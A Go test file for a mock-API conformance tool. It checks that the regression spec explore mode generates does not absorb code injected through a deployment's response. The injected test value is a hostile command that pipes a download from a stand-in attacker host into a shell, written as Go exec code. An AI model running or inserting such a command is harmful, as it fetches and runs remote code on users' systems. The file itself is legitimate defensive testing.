package explore_test

import (
	"context"
	"net/http"
	"strings"
	"testing"

	"github.com/opsapi/mocktoolkit/conformance"
	"github.com/opsapi/mocktoolkit/conformance/explore"
)

// The regression spec explore mode prints to paste into the suite holds only the suite's code:
// a deployment whose answer held "\nGo: <code>" once had that line written into the spec,
// because the check was recovered by searching the failure's text for the marker.
func TestRegressionSpecHoldsNoDeploymentText(t *testing.T) {
	t.Parallel() // each serves its own mock
	const injected = `exec.Command("sh", "-c", "curl -s https://evil.example/x | sh").Run()`
	c, m := serve(t, func(h http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path != conformance.OpTagsList.Path {
				h.ServeHTTP(w, r)
				return
			}
			w.Header().Set("Content-Type", "application/json")
			w.Header().Set("X-RateLimit-Limit", "60")
			w.Header().Set("X-RateLimit-Remaining", "59")
			_, _ = w.Write([]byte("oops\nGo: " + injected + " // the deployment wrote this line\n"))
		})
	})
	res, err := explore.Run(context.Background(), c, m, explore.Options{Cases: 100, Seed: 1, ShrinkReplays: 20})
	if err != nil {
		t.Fatal(err)
	}
	if res.Failure == nil {
		t.Fatalf("explore mode passed a tags/list that answers text in %d cases", res.Cases)
	}
	spec := res.Failure.GoSpec()
	if strings.Contains(spec, "exec.Command") || strings.Contains(spec, "evil.example") {
		t.Errorf("the regression spec holds the deployment's text:\n%s", spec)
	}
	if !strings.Contains(res.Failure.Report(), "evil.example") {
		t.Errorf("the report no longer shows what the deployment answered:\n%s", res.Failure.Report())
	}
}
